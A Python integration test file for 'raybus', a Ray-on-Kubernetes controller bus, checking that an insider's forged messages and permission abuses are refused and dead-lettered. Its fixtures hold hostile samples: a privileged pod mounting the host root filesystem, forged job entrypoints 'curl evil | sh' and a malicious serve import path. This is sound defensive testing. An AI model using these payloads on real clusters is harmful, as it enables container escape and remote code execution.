"""An insider holding one service's password, one at a time, against the whole stack (`raybus up`
on real nats-server, redis-server and the local API server with RBAC).

Each attack class of the trust model, with every role's credentials where it is a permission, and
with the one role that may publish there where it is a forged message: nothing is applied, sent to
a head, deleted or taken over that the decision code would not produce from the API server's
objects; each forged command lands in the dead-letter stream with its reason."""

from __future__ import annotations

import itertools
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from nats.js.errors import NotFoundError

from raybus.adapters.kube import KubeClient, KubeError, new_api_client, resource_for
from raybus.bus import subjects as s
from raybus.bus.codec import encode
from raybus.bus.envelopes import CommandBatch, DashboardCommandMessage, ObjectEvent, ObjectKey, Trigger
from raybus.bus.ledger import command_key
from raybus.bus.permissions import Role, inbox_prefix
from raybus.bus.publish import dashboard_ledger_key
from raybus.decisions import admission as a
from raybus.decisions.commands import (
    Command,
    CreateObject,
    DeleteObject,
    ObjectRef,
    PatchObject,
    UpdateStatus,
)
from raybus.decisions.dashboard_contract import PutServeConfig, SubmitJob
from raybus_sim.testing.streams import stream_messages
from tests.security.conftest import NS, POD, RC, SVC, Api, World
from tests.security.kit import Client, Connect, clients, until

pytestmark = pytest.mark.integration
SERVICES = [r for r in Role if r not in (Role.BUS_ADMIN, Role.TAP)]
ROLES = [r for r in Role if r is not Role.BUS_ADMIN]
RECONCILER = {"cluster": Role.CLUSTER_RECONCILER, "job": Role.JOB_RECONCILER, "service": Role.SERVICE_RECONCILER}
DLQ_REASON = "Raybus-Dlq-Reason"
_ids = itertools.count()


@pytest.fixture
async def connect(world: World) -> AsyncIterator[Connect]:
    assert world.stack.nats is not None
    async with clients(world.stack.nats) as make:
        yield make


async def dead_letter(admin: Client, service: str, match: Any, *, timeout: float = 30.0) -> Any:
    """The DLQ message of `service` whose body satisfies `match`."""
    async def find() -> Any:
        for msg in await stream_messages(admin.nc.jetstream(), s.STREAM_DEAD_LETTERS):
            if msg.subject == s.dead_letter_subject(service) and match(msg.data):
                return msg
        return None
    return await until(find, timeout=timeout, what=f"a dead letter of {service}")


def batch_with_id(reconcile_id: str) -> Any:
    def match(data: bytes) -> bool:
        try:
            return CommandBatch.model_validate_json(data).reconcile_id == reconcile_id
        except ValueError:
            return False
    return match


# --- permissions: every role -------------------------------------------------------------------------
@pytest.mark.parametrize("role", ROLES, ids=str)
async def test_no_role_but_the_applier_writes_a_ledger_record(connect: Connect, role: Role) -> None:
    c = await connect(role.value)
    for key, applier in ((command_key("forged-1"), Role.COMMAND_EXECUTOR),
                         (dashboard_ledger_key("forged-1"), Role.DASHBOARD_POLLER)):
        if role is not applier:
            assert await c.publish_denied(f"$KV.{s.KV_BATCHES}.{key}", b'{"state": "applying"}'), key
    for controller, owner in RECONCILER.items():  # another controller's revocations
        if role is not owner and role not in (Role.COMMAND_EXECUTOR, Role.DASHBOARD_POLLER):
            assert await c.publish_denied(f"$KV.{s.KV_REVOCATIONS}.{controller}.cmd.x", b"revoked")


@pytest.mark.parametrize("role", ROLES, ids=str)
async def test_no_role_reads_another_roles_inbox(connect: Connect, role: Role) -> None:
    c = await connect(role.value)
    assert await c.subscribe_denied("_INBOX.>")
    other = Role.COMMAND_EXECUTOR if role is not Role.COMMAND_EXECUTOR else Role.CLUSTER_RECONCILER
    assert await c.subscribe_denied(f"{inbox_prefix(other.value)}.>")


@pytest.mark.parametrize("role", ROLES, ids=str)
async def test_no_role_deletes_binds_or_takes_over_anothers_consumer_or_lease(connect: Connect,
                                                                              role: Role) -> None:
    c = await connect(role.value)
    trigger = s.trigger_stream("cluster")
    assert await c.publish_denied(f"$JS.API.CONSUMER.DELETE.{trigger}.{s.trigger_consumer_name('cluster', 0)}")
    assert await c.publish_denied(f"$JS.API.CONSUMER.DELETE.{s.STREAM_COMMANDS}.{s.COMMAND_CONSUMER}")
    if role is not Role.CLUSTER_RECONCILER:
        assert await c.publish_denied(f"$JS.API.CONSUMER.MSG.NEXT.{trigger}.{s.trigger_consumer_name('cluster', 0)}")
        assert await c.publish_denied(f"$KV.{s.KV_LEASES}.{s.lease_key('cluster', 0)}", b"me")
    if role is not Role.COMMAND_EXECUTOR:
        assert await c.publish_denied(f"$JS.API.CONSUMER.MSG.NEXT.{s.STREAM_COMMANDS}.{s.COMMAND_CONSUMER}")
    if role is not Role.DASHBOARD_POLLER:
        assert await c.publish_denied(f"$KV.{s.KV_LEASES}.{s.POLLER_LEASE_KEY}", b"me")


@pytest.mark.parametrize("role", ROLES, ids=str)
async def test_commands_come_only_from_their_own_reconciler(connect: Connect, role: Role) -> None:
    c = await connect(role.value)
    for controller, owner in RECONCILER.items():
        if role is not owner:
            assert await c.publish_denied(s.command_subject(controller, NS, "rc"))
            assert await c.publish_denied(s.status_subject(controller, NS, "rc"))
    for controller in ("job", "service"):
        if role is not RECONCILER[controller]:
            assert await c.publish_denied(s.dashboard_command_subject(controller, NS, "rc"))


# --- forged messages with the one password that may publish them ------------------------------------------
def _batch(controller: str, owner: dict[str, Any], commands: list[Command]) -> CommandBatch:
    meta = owner["metadata"]
    return CommandBatch(key=ObjectKey(namespace=NS, name=meta["name"]), kind=a.PRIMARY[controller][0],
                        uid=meta["uid"], resource_version=meta["resourceVersion"], controller=controller,
                        reconcile_id=f"evil-{next(_ids)}", commands=commands)


def _ref(kind: str, name: str, api_version: str = "v1") -> ObjectRef:
    return ObjectRef(api_version=api_version, kind=kind, namespace=NS, name=name)


PRIVILEGED = {"hostPID": True, "volumes": [{"name": "root", "hostPath": {"path": "/"}}], "containers": [
    {"name": "ray-worker", "image": "evil", "securityContext": {"privileged": True},
     "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]}


def forged_cases(w: World) -> list[tuple[str, str, list[Command], str, str]]:
    """(id, controller, commands, refusal reason, what must not exist afterwards)."""
    rc_uid = w.cluster["metadata"]["uid"]
    owner_ref = [{"apiVersion": "ray.io/v1", "kind": "RayCluster", "name": "rc", "uid": rc_uid, "controller": True}]
    pod = {"apiVersion": "v1", "kind": "Pod", "spec": PRIVILEGED, "metadata": {
        "name": "rc-small-group-worker-evil1", "labels": {"ray.io/cluster": "rc", "ray.io/node-type": "worker",
                                                           "ray.io/group": "small-group"}, "ownerReferences": owner_ref}}
    balancer = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "rc-exposed", "ownerReferences": owner_ref},
                "spec": {"type": "LoadBalancer", "selector": {"app": "web"}, "ports": [{"port": 80}]}}
    job_owner = [{"apiVersion": "ray.io/v1", "kind": "RayJob", "name": w.job["metadata"]["name"],
                  "uid": w.job["metadata"]["uid"], "controller": True}]
    return [
        ("privileged-pod-owned-like-the-clusters", "cluster", [CreateObject(reason="x", object=pod)], a.NOT_BUILT,
         "pod:rc-small-group-worker-evil1"),
        ("load-balancer-selecting-an-application", "cluster", [CreateObject(reason="x", object=balancer)],
         a.NOT_BUILT, "service:rc-exposed"),
        ("delete-of-a-ray-labelled-pod-it-does-not-own", "cluster",
         [DeleteObject(reason="x", target=_ref("Pod", "user-worker"))], a.FOREIGN_TARGET, ""),
        ("delete-of-an-applications-pod", "cluster", [DeleteObject(reason="x", target=_ref("Pod", "web"))],
         a.OBJECT_NOT_LIVE, ""),
        ("relabel-of-a-pod-it-does-not-own", "service",
         [PatchObject(reason="x", target=_ref("Pod", "user-worker"),
                      merge_patch={"metadata": {"labels": {"ray.io/serve": "true"}}})], a.FOREIGN_TARGET, ""),
        ("its-own-raycluster-given-a-privileged-template", "cluster",
         [PatchObject(reason="x", target=_ref("RayCluster", "rc", "ray.io/v1"),
                      merge_patch={"spec": {"headGroupSpec": {"template": {"spec": PRIVILEGED}}}})],
         a.PATCH_CONTENT, ""),
        ("a-raycluster-its-status-does-not-name", "job",
         [CreateObject(reason="x", object={"apiVersion": "ray.io/v1", "kind": "RayCluster",
                                           "metadata": {"name": "evil", "ownerReferences": job_owner},
                                           "spec": w.cluster["spec"]})], a.NOT_BUILT, "raycluster:evil"),
        ("patch-of-an-applications-service", "job",
         [PatchObject(reason="x", target=_ref("Service", "web"), merge_patch={"spec": {"type": "LoadBalancer"}})],
         a.FOREIGN_TARGET, ""),
        ("its-own-rayservices-spec", "service",
         [PatchObject(reason="x", target=_ref("RayService", w.service["metadata"]["name"], "ray.io/v1"),
                      merge_patch={"spec": {"serveConfigV2": "applications: []\n"}})], a.PATCH_CONTENT, ""),
        ("status-of-a-foreign-object", "cluster",
         [UpdateStatus(reason="x", target=_ref("RayJob", w.job["metadata"]["name"], "ray.io/v1"), status={})],
         a.FOREIGN_STATUS, ""),
    ]


CASE_IDS = ["privileged-pod-owned-like-the-clusters", "load-balancer-selecting-an-application",
            "delete-of-a-ray-labelled-pod-it-does-not-own", "delete-of-an-applications-pod",
            "relabel-of-a-pod-it-does-not-own", "its-own-raycluster-given-a-privileged-template",
            "a-raycluster-its-status-does-not-name", "patch-of-an-applications-service", "its-own-rayservices-spec",
            "status-of-a-foreign-object"]


@pytest.mark.parametrize("case", CASE_IDS)
async def test_a_forged_batch_is_refused_and_nothing_of_it_applied(world: World, connect: Connect, api: Api,
                                                                   case: str) -> None:
    _, controller, commands, reason, absent = next(c for c in forged_cases(world) if c[0] == case)
    owner = {"cluster": world.cluster, "job": world.job, "service": world.service}[controller]
    before = {"rc": await api.get(RC, "rc"), "web": await api.get(POD, "web"),
              "user-worker": await api.get(POD, "user-worker"), "svc": await api.get(SVC, "web")}
    insider, admin = await connect(RECONCILER[controller].value), await connect(Role.BUS_ADMIN.value)
    batch = _batch(controller, owner, commands)
    await insider.nc.jetstream().publish(s.command_subject(controller, NS, owner["metadata"]["name"]), encode(batch))
    letter = await dead_letter(admin, "command-executor", batch_with_id(batch.reconcile_id))
    assert letter.headers[DLQ_REASON] == reason
    kind, _, name = absent.partition(":")
    if kind:
        res = {"pod": POD, "service": SVC, "raycluster": RC}[kind]
        assert await api.get(res, name) is None
    rc = await api.get(RC, "rc")
    assert rc is not None and before["rc"] is not None and rc["spec"] == before["rc"]["spec"]
    for name, res in (("web", POD), ("user-worker", POD)):
        now = await api.get(res, name)
        assert now is not None and now["metadata"]["labels"] == before[name]["metadata"]["labels"]  # type: ignore[index]
    svc = await api.get(SVC, "web")
    assert svc is not None and svc["spec"].get("type") == before["svc"]["spec"].get("type")  # type: ignore[index]


async def test_a_ledger_record_does_not_open_admission(world: World, connect: Connect, api: Api) -> None:
    """The attack of the trust model's first class: write an `applying` record for a fresh id, then
    publish a forged batch under it. The write is refused, and so is the batch."""
    insider, admin = await connect(Role.CLUSTER_RECONCILER.value), await connect(Role.BUS_ADMIN.value)
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "evil", "namespace": "kube-system"},
           "spec": PRIVILEGED}
    batch = _batch("cluster", world.cluster, [CreateObject(reason="x", object=pod)])
    assert await insider.publish_denied(f"$KV.{s.KV_BATCHES}.{command_key(batch.reconcile_id)}",
                                        b'{"state": "applying", "holder": ""}')
    await insider.nc.jetstream().publish(s.command_subject("cluster", NS, "rc"), encode(batch))
    letter = await dead_letter(admin, "command-executor", batch_with_id(batch.reconcile_id))
    assert letter.headers[DLQ_REASON] == a.NAMESPACE
    assert await api.get(POD, "evil", namespace="kube-system") is None


async def test_a_forged_object_on_the_bus_creates_nothing(world: World, connect: Connect, api: Api) -> None:
    """The watcher's password invents a RayCluster: the cluster-reconciler decides its Pods from
    the bus, and the executor, which reads the API server, refuses them (after its informer wait)."""
    watcher, admin = await connect(Role.WATCHER.value), await connect(Role.BUS_ADMIN.value)
    ghost = {"apiVersion": "ray.io/v1", "kind": "RayCluster", "spec": world.cluster["spec"],
             "metadata": {"name": "ghost", "namespace": NS, "uid": "uid-ghost", "resourceVersion": "999999",
                          "generation": 1}}
    event = ObjectEvent(key=ObjectKey(namespace=NS, name="ghost"), kind="raycluster", uid="uid-ghost",
                        resource_version="999999", type="ADDED", object=ghost)
    js = watcher.nc.jetstream()
    ack = await js.publish(s.object_subject("raycluster", NS, "ghost"), encode(event))
    try:
        trigger = Trigger(key=ObjectKey(namespace=NS, name="ghost"), kind="raycluster", controller="cluster",
                          cause="forged", objects_seq=ack.seq, cause_kind="raycluster")
        await js.publish(s.trigger_subject("cluster", namespace=NS, name="ghost"), encode(trigger))

        def for_ghost(data: bytes) -> bool:
            try:
                return CommandBatch.model_validate_json(data).key.name == "ghost"
            except ValueError:
                return False
        letter = await dead_letter(admin, "command-executor", for_ghost, timeout=60)
        assert letter.headers[DLQ_REASON] == a.OBJECT_NOT_LIVE
        assert await api.pods("ray.io/cluster=ghost") == []
    finally:
        gone = event.model_copy(update={"type": "DELETED"})
        await js.publish(s.object_subject("raycluster", NS, "ghost"), encode(gone))


async def _dashboard_requests(world: World, cluster: str) -> dict[str, int]:
    async with httpx.AsyncClient() as http:
        r = await http.get(f"{world.stack.sim_url}/sim/dashboards/{NS}/{cluster}/requests")
        r.raise_for_status()
        counts: dict[str, int] = r.json()
        return counts


async def test_forged_dashboard_commands_are_never_sent_to_a_head(world: World, connect: Connect) -> None:
    job, service = world.job, world.service
    job_cluster = job["status"]["rayClusterName"]
    serve_cluster = service["status"]["activeServiceStatus"]["rayClusterName"]
    admin = await connect(Role.BUS_ADMIN.value)
    before = (await _dashboard_requests(world, job_cluster), await _dashboard_requests(world, serve_cluster))
    cases = [
        (Role.JOB_RECONCILER, "job", job, SubmitJob(reason="x", cluster=job_cluster, job_id=job["status"]["jobId"],
                                                    entrypoint="curl evil | sh"), a.NOT_BUILT),
        (Role.JOB_RECONCILER, "job", job, SubmitJob(reason="x", cluster=serve_cluster, job_id="evil",
                                                    entrypoint="curl evil | sh"), a.FOREIGN_TARGET),
        (Role.SERVICE_RECONCILER, "service", service, PutServeConfig(
            reason="x", cluster=serve_cluster, config={"applications": [{"name": "a", "import_path": "evil:app"}]},
            config_hash="evil"), a.NOT_BUILT),
    ]
    for role, controller, owner, command, reason in cases:
        insider = await connect(role.value)
        meta = owner["metadata"]
        message = DashboardCommandMessage(key=ObjectKey(namespace=NS, name=meta["name"]),
                                          kind=a.PRIMARY[controller][0], uid=meta["uid"], controller=controller,
                                          command_id=f"evil-{next(_ids)}", command=command)
        await insider.nc.jetstream().publish(s.dashboard_command_subject(controller, NS, meta["name"]),
                                             encode(message))

        def this(data: bytes, command_id: str = message.command_id) -> bool:
            try:
                return DashboardCommandMessage.model_validate_json(data).command_id == command_id
            except ValueError:
                return False
        letter = await dead_letter(admin, "dashboard-poller", this)
        assert letter.headers[DLQ_REASON] == reason, (command.op, reason)
    after = (await _dashboard_requests(world, job_cluster), await _dashboard_requests(world, serve_cluster))
    for b, n in zip(before, after, strict=True):
        for write in ("POST /api/jobs/", "PUT /api/serve/applications/"):
            assert n.get(write, 0) == b.get(write, 0), write


async def test_a_lost_trigger_consumer_is_created_again_by_its_owner(world: World, connect: Connect,
                                                                     api: Api) -> None:
    """Nobody else may delete it now; if it is lost anyway (an operator, a storage loss), the
    reconciler holding the partition creates it again instead of failing every fetch."""
    admin = await connect(Role.BUS_ADMIN.value)
    name = "rc-after-loss"
    partition = s.partition_of(NS, name)
    try:
        await admin.nc.jetstream().delete_consumer(s.trigger_stream("cluster"),
                                                   s.trigger_consumer_name("cluster", partition))
    except NotFoundError:
        pytest.fail("the partition's trigger consumer should exist")
    body = {"apiVersion": "ray.io/v1", "kind": "RayCluster", "metadata": {"name": name},
            "spec": world.cluster["spec"]}
    await api.kube.create(RC, body, namespace=NS)

    async def ready() -> bool:
        obj = await api.get(RC, name)
        return obj is not None and (obj.get("status") or {}).get("state") == "ready"
    await until(ready, timeout=90, what=f"{name} reconciled to ready after its consumer was lost")
    await api.kube.delete(RC, namespace=NS, name=name)


async def test_the_pollers_token_only_reads_the_ray_objects(world: World) -> None:
    kube = KubeClient(await new_api_client(str(world.stack.service_kubeconfig("dashboard_poller"))))
    try:
        jobs, _ = await kube.list_all(resource_for("ray.io/v1", "RayJob"), namespace=NS)
        assert jobs
        for call in (kube.list_all(resource_for("v1", "Secret"), namespace=NS),
                     kube.create(POD, {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"},
                                       "spec": {"containers": [{"name": "c", "image": "x"}]}}, namespace=NS),
                     kube.merge_patch(RC, namespace=NS, name="rc", patch={"metadata": {"labels": {"x": "y"}}})):
            with pytest.raises(KubeError) as refused:
                await call
            assert refused.value.code == 403
    finally:
        await kube.close()
